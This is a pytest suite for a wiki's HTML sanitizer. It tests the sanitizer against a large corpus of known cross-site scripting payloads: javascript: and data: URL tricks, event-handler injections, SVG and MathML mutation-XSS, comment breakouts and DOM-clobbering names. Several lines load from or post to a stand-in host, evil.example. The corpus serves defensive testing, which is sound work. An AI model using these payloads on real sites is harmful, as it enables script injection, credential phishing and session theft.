"""What a page may hold, tried with what has gone wrong in other wikis, sanitizers and browsers."""

import re
import time
from html import unescape
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from engine.markup.sanitize import (
    EVERYWHERE,
    MAX_ATTRIBUTES,
    MAX_DEPTH,
    MAX_FORMATTING,
    RESERVED_IDS,
    SCHEMES,
    TAGS,
    sanitize,
)

ADDRESSES = {"href", "src", "poster"}
VOID = {"br", "col", "hr", "img", "input", "source", "track", "wbr"}


class Inspector(HTMLParser):
    """Reads what came out as a stranger would, and knows what must not be there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.depth = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        names = [name for name, _ in attrs]
        assert len(names) == len(set(names))
        for name, value in attrs:
            self.check_attribute(tag, name, value or "")
        if tag not in VOID:
            self.open.append(tag)
            self.depth = max(self.depth, len(self.open))

    def check_attribute(self, tag: str, name: str, value: str) -> None:
        fixed = {"type", "disabled", "checked"} if tag == "input" else set()
        assert name in TAGS[tag] | EVERYWHERE | fixed
        assert not name.startswith("on")
        assert name not in {"style", "srcdoc", "srcset", "formaction", "xlink:href"}
        if name in ADDRESSES:
            check_address(value)
        if name in {"id", "name"}:
            assert not value.lower().startswith(RESERVED_IDS)
        if name in fixed:
            assert value == ("checkbox" if name == "type" else "")

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        pytest.fail(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        pytest.fail(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        pytest.fail(f"an instruction: {data}")


def check_address(value: str) -> None:
    """Whatever way an address is read, it has a scheme that is allowed or none."""
    for reading in (value, unescape(value), unquote(value), unquote(unescape(unquote(value)))):
        bare = re.sub(r"[\x00-\x20\x7f-\xa0\u200b-\u200f\u2028\u2029\ufeff]", "", reading).lower()
        for danger in (
            "javascript:",
            "vbscript:",
            "data:",
            "livescript:",
            "mocha:",
            "file:",
            "blob:",
            "filesystem:",
        ):
            assert not bare.startswith(danger)
    scheme = re.match(r"[\s\x00-\x20]*([a-z][a-z0-9+.-]*):", value, re.IGNORECASE)
    assert scheme is None or scheme[1].lower() in SCHEMES


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    assert inspector.open == []
    return inspector


SCHEME_TRICKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\r\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "\x00javascript:alert(1)",
    "java\x00script:alert(1)",
    "\u00a0javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "javascript&#x3A;alert(1)",
    "javascript&#0000058alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&amp;colon;alert(1)",
    "javascript%3Aalert(1)",
    "%6Aavascript:alert(1)",
    "&Tab;javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "data:,x",
    "d&#97;ta:text/html,x",
    "blob:https://example.org/1",
    "file:///etc/passwd",
    "filesystem:https://example.org/x",
    "view-source:https://example.org",
    "about:blank",
    "jar:https://example.org!/x",
    "ms-its:x",
    "feed:javascript:alert(1)",
    "x-javascript:alert(1)",
]


@pytest.mark.parametrize("address", SCHEME_TRICKS)
@pytest.mark.parametrize(
    "tag", ['<a href="{}">x</a>', "<img src='{}'>", '<video poster="{}"></video>', '<audio src="{}"></audio>']
)
def test_only_harmless_schemes_are_left(tag: str, address: str) -> None:
    clean = sanitize(tag.format(address))
    inspect(clean)
    assert "href" not in clean
    assert "src" not in clean
    assert "poster" not in clean


@pytest.mark.parametrize(
    "address",
    [
        "https://example.org/?a=b&amp;c=d",
        "http://example.org",
        "mailto:ada@example.org",
        "tel:+49123",
        "/page",
        "page#heading",
        "#note-1",
        "#^block",
        "?rev=abc",
        "//example.org/x",
        "a%3Ab",
        "./a:b",
        "/zh/首页",
    ],
)
def test_addresses_stay(address: str) -> None:
    assert sanitize(f'<a href="{address}">x</a>') == f'<a href="{address}">x</a>'


PAYLOADS = [
    # Elements that run something, or load something that does.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\t\n bar>",
    "<script x=1>alert(1)//",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<object type=text/html data=//evil.example></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=X></applet>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv='Set-Cookie' content='a=b'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<frameset onload=alert(1)><frame src=//evil.example></frameset>",
    "<body onload=alert(1)>",
    "<body background='javascript:alert(1)'>",
    "<html manifest=//evil.example>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=//evil.example></layer>",
    "<portal src=//evil.example>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open>Your session has ended: <form action=//evil.example><input name=password></form></dialog>",
    # Handlers and dangerous attributes on elements that are allowed.
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    "<img src=x oNeRrOr='alert(1)'>",
    "<img src=x \x00onerror=alert(1)>",
    "<img src=x ONERROR\x0b=alert(1)>",
    "<img srcset='x onerror=alert(1)'>",
    "<img src=x:x onerror=alert(1)//",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video autoplay onplay=alert(1) src=x></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='position:fixed;inset:0'>log in here</div>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<div contenteditable autofocus onfocus=alert(1)>x</div>",
    "<p tabindex=1 onfocus=alert(1) autofocus>x</p>",
    "<div popover id=x>x</div><a popovertarget=x>y</a>",
    "<a href=x ping=//evil.example>x</a>",
    "<a href=x target=_blank rel=opener>x</a>",
    "<a href=x download=evil.exe>x</a>",
    "<td background=javascript:alert(1)>x</td>",
    "<p is=evil-element slot=x part=y>x</p>",
    "<img usemap='#x'><map name=x><area href=javascript:alert(1)></map>",
    # Breaking out of an attribute.
    "<img alt=\"x\" title=\"\"><script>alert(1)</script>\">",
    "<a title='\"><script>alert(1)</script>'>x</a>",
    "<a title=\"'><img src=x onerror=alert(1)>\">x</a>",
    "<a href=\"x\" title='&quot; onmouseover=alert(1) x=&quot;'>x</a>",
    "<a href='x&#34; onmouseover=&#34;alert(1)'>x</a>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img src='x\" onerror=\"alert(1)'>",
    "<a href=x<script>alert(1)</script>>y</a>",
    "<p title=`onmouseover=alert(1)`>x</p>",
    # Forms and what asks for secrets.
    "<form action=//evil.example><input name=q><button>go</button></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>go</button>",
    "<input type=image src=javascript:alert(1)>",
    "<input type=text name=password autofocus onfocus=alert(1)>",
    "<input type=checkbox onclick=alert(1)>",
    "<input type=hidden name=csrf value=x>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select onchange=alert(1)><option>x</select>",
    "<keygen autofocus onfocus=alert(1)>",
    # SVG, in the element and what it may hold.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><image href=javascript:alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><title><style><a id='</style><img src=x onerror=alert(1)>'></title></svg>",
    # MathML, and text that is read anew in another way.
    "<math href=javascript:alert(1)><mi>x</mi></math>",
    "<math><mrow xlink:href=javascript:alert(1)><mi>x</mi></mrow></math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><annotation encoding=text/html><script>alert(1)</script></annotation></math>",
    "<math><mi><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror='alert(1)'>\">",
    "<math><mi></mi><malignmark><style><img src=x onerror=alert(1)></style></malignmark></math>",
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style><img src=x onerror=alert(1)>\">",
    "<math><p></p><style><!--</style><img src/onerror=alert(1)>--></style></math>",
    "<math><mpadded voffset='-9999px' width='9999px' mathsize='999em'><mi>x</mi></mpadded></math>",
    "<math style='position:fixed' onclick=alert(1)><mi>x</mi></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<template><template></template><img src=x onerror=alert(1)></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=alert(1)>\">",
    "<table><td><form><p></td><form></p></table></form><img src=x onerror=alert(1)>",
    "<p><table><td><p></table><svg><style><p id='</style><img src=x onerror=alert(1)>'>",
    # Comments, declarations, and what is none.
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!DOCTYPE x [<!ENTITY x '<script>alert(1)</script>'>]>",
    "<?xml version='1.0'?><?x <img src=x onerror=alert(1)>?>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "</ <img src=x onerror=alert(1)>",
    "<%<img src=x onerror=alert(1)>%>",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "<img\x0bsrc=x\x0bonerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "<ımg src=x onerror=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # Posing as the page: names and ids that scripts look up, and templates that they might read.
    "<img name=body><img name=getElementById><img name=cookie>",
    "<form name=currentScript><input name=attributes></form>",
    "<a id=quire:search name=quire:search href=x>x</a>",
    "<b id=Quire:Search>x</b>",
    "<b id='x y'>x</b>",
    "<p role=dialog aria-modal=true>x</p>",
    "<p role=navigation>x</p>",
    "<p role=alert aria-live=assertive>x</p>",
    "<div class='modal fixed banner'>x</div>",
    "<p data-action=delete data-controller=x v-on:click=alert(1) @click=alert(1) x-on:click=alert(1)>x</p>",
    "<p hx-get=//evil.example ng-click=alert(1) :title=alert(1)>x</p>",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "frame", ["{}", "<p>a{}b</p>", "<table><tr><td>{}</table>", "<math><mtext>{}</mtext></math>"]
)
def test_nothing_that_runs_gets_through(payload: str, frame: str) -> None:
    clean = sanitize(frame.format(payload))
    inspect(clean)
    assert sanitize(clean) == clean


def test_the_corpus_is_large() -> None:
    assert len(PAYLOADS) + len(SCHEME_TRICKS) >= 150


@pytest.mark.parametrize(
    "html",
    [
        "<p>Text with <em>em</em>, <strong>strong</strong>, <code>code</code> and <del>del</del>.</p>",
        '<h2 id="title">Title</h2>',
        '<table><thead><tr><th align="left">a</th></tr></thead><tbody><tr><td align="right">b</td></tr></tbody></table>',
        '<pre><code class="language-python"><span class="code-keyword">def</span></code></pre>',
        '<details open=""><summary>More</summary><p>Text</p></details>',
        "<dl><dt>a</dt><dd>b</dd></dl>",
        "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>",
        '<abbr title="HyperText">HT</abbr> <kbd>Ctrl</kbd> H<sub>2</sub>O x<sup>2</sup> <mark>m</mark>',
        '<figure><img src="a.png" alt="A" width="300" loading="lazy"><figcaption>A</figcaption></figure>',
        '<audio controls="" src="a.ogg"></audio><video controls="" poster="p.png"><source src="a.webm" type="video/webm"></video>',
        '<ol start="3" type="a"><li value="4">x</li></ol>',
        '<p lang="ar" dir="rtl">نص</p>',
        '<a href="#note-1" id="ref-1" role="doc-noteref" aria-label="Note 1">1</a>',
        '<p id="^block" tabindex="0">x</p>',
        '<p align="center">x</p>',
        '<math display="block"><mfrac><mi>a</mi><mn>2</mn></mfrac></math>',
        '<math><mrow><mo stretchy="false">(</mo><mi mathvariant="normal">x</mi><mspace width="0.167em"></mspace></mrow></math>',
        '<a rel="nofollow external" href="https://example.org">x</a>',
        '<time datetime="2026-03-09">today</time>',
        "<p>a &lt; b &amp; c &gt; d</p>",
        "<p>one<br>two</p><hr>",
    ],
)  # fmt: skip
def test_what_pages_need_stays_as_it_is(html: str) -> None:
    inspect(html)
    assert sanitize(html) == html


@pytest.mark.parametrize(
    ("html", "clean"),
    [
        ("<script>alert(1)</script>Text", "Text"),
        ("<style>p { color: red }</style>Text", "Text"),
        ("<svg><text>drawn</text></svg>Text", "Text"),
        ("<textarea>not closed", "not closed"),
        ("<font color=red>red</font>", "red"),
        ("<!-- secret -->Text", "Text"),
        ("Text<!-- secret", "Text"),
        ("<input>", '<input type="checkbox" disabled="">'),
        ("<input type=text name=q CHECKED>", '<input type="checkbox" disabled="" checked="">'),
        ("<input aria-label='a\"b' checked>", '<input type="checkbox" disabled="" checked="">'),
        ('<input aria-label="&lt;b" id="x">', '<input type="checkbox" disabled="" aria-label="&lt;b">'),
        ("<p class='callout evil'>x</p>", '<p class="callout">x</p>'),
        ("<p class='evil'>x</p>", "<p>x</p>"),
        ("<a rel='opener nofollow' href=x>y</a>", '<a rel="nofollow" href="x">y</a>'),
        ("<img src=x width='100%' height='9999999'>", '<img src="x" width="100%">'),
        ("a < b <c", "a &lt; b &lt;c"),
        ('<a href="x"title="y">z', '&lt;a href="x"title="y"&gt;z'),
        ("<b>bold", "<b>bold</b>"),
        ("</div></main>Text", "Text"),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        ("<p>a<p>b", "<p>a</p><p>b</p>"),
        ("<p><b>a<div>b</div>", "<p><b>a</b></p><div>b</div>"),
        ("<b><i>a</b>b</i>", "<b><i>a</i></b>b"),
        ("<table><tr><td>a<td>b<tr><td>c</table>",
         "<table><tbody><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></tbody></table>"),
        ("<dl><dt>a<dd>b<dt>c</dl>", "<dl><dt>a</dt><dd>b</dd><dt>c</dt></dl>"),
        ("<math><mspace width='1em' /><mi>x</mi></math>",
         '<math><mspace width="1em"></mspace><mi>x</mi></math>'),
        ("<P ALIGN=Center>x</P>", "<p>x</p>"),
        ("<div/>x", "<div>x</div>"),
        ("x\x00y", "xy"),
        ("<pre>\nx</pre>", "<pre>x</pre>"),
        ("<pre>\n\nx</pre>", "<pre>\n\nx</pre>"),
        ("", ""),
    ],
)  # fmt: skip
def test_the_rest_is_dropped_or_set_right(html: str, clean: str) -> None:
    assert sanitize(html) == clean


def test_depth_is_bounded_and_text_is_kept() -> None:
    clean = sanitize("<div>" * 5_000 + "deep" + "</div>" * 5_000 + "<p>after</p>")
    assert inspect(clean).depth == MAX_DEPTH
    assert "deep" in clean
    assert clean.endswith("</div><p>after</p>")
    clean = sanitize("<p>" + "<em>" * 500 + "deep")
    assert inspect(clean).depth == MAX_FORMATTING + 1


def test_attributes_are_bounded() -> None:
    many = " ".join(f'data-x{number}="1"' for number in range(MAX_ATTRIBUTES))
    assert sanitize(f"<b {many}>x</b>") == "<b>x</b>"
    assert sanitize(f"<b {many} title=x>x</b>").startswith("&lt;b")


N = 20_000


@pytest.mark.parametrize(
    ("html", "growth"),
    [
        ("<p>" + "".join(f"<b id={number}>" for number in range(N)) + "<p>x" * N, 2),
        ("<p>" + "".join(f"<b id={number}>" for number in range(9)) + "<div>x</div>" * N, 2),
        ("<table>" + "".join(f"<b id={number}>" for number in range(N)) + "x<tr></tr>" * N, 8),
        ("<ul><li>" * N, 2),
        ("<span>" * N + "</p>" * N, 2),
        ("<b><i><div>" * N + "</b>" * N, 2),
        ("<p><div>" + "<b>" * N + "<hr>" * N, 2),
        ("<table><td>" * N, 2),
        ("<b " + " ".join(f"a{number}" for number in range(5 * N)) + ">", 2),
        ("<!--" * N, 2),
        ("<!" * N, 4),
        ("<title>" * N, 2),
        ("<svg>" * N + "</svg>", 2),
        ("<" * N, 5),
        ("<a " * N, 3),
        ('<a x="' * N, 3),
        ("<a" + " " * N, 3),
        (("<a" + " " * 500) * 200, 3),
        ("<math>" * N, 2),
        ("<math>" + "<mi/>" * N, 3),
    ],
)  # fmt: skip
def test_tangled_html_does_not_grow(html: str, growth: int) -> None:
    clean = sanitize(html)
    assert len(clean) <= growth * len(html)
    inspect(clean)


pieces = st.sampled_from(
    """
    <p> </p> <b> </b> <i id=x> </i> <a\x20href="x"> </a> <div> </div> <ul> <li> </ul> <table> <tr> <td> </td> </table> <caption> <col>
    <math> </math> <mi> <mtext> <mspace/> <mtable> <mtr> <mtd> <svg> </svg> <style> </style> <title> </title> <!-- --> <! ]]> < > </
    <pre> </pre> <br> </br> <hr> <h1> </h1> <details> <summary> <ruby> <rt> <rp> <dl> <dt> <dd> <code> </code> <tt> <script> </script>
    <template> </template> <form> <select> <option> <body> </body> <html> <noscript> <textarea> <input> <img\x20src=x\x20onerror=y>
    <a\x20title="<b>"> <p\x20class='callout\x20x'> " ' & &lt; &#0; \n \x20 x <thead> <tbody> <th> <ol> <em> <span> </span> </p/>
    """.strip().split()
).map(lambda piece: piece.replace("\\x20", " "))  # fmt: skip
tangles = st.lists(pieces | st.text(max_size=3), max_size=30).map("".join)


@given(tangles)
@example("<pre>\n\nx</pre>")
@example("<table><b>x<tr></b>")
@example("<rt><table><rt>")
@example("\ufeff\ufeff")
def test_sanitizing_twice_changes_nothing(html: str) -> None:
    clean = sanitize(html)
    inspect(clean)
    assert sanitize(clean) == clean


def test_ends_of_scripts_that_never_end_are_read_in_no_time() -> None:
    start = time.thread_time()
    assert "alert" not in sanitize("<script>alert(1)</script x>" + "<script>\n" + "</script " * 50_000)
    assert time.thread_time() - start < 5  # quadratic work would take much longer
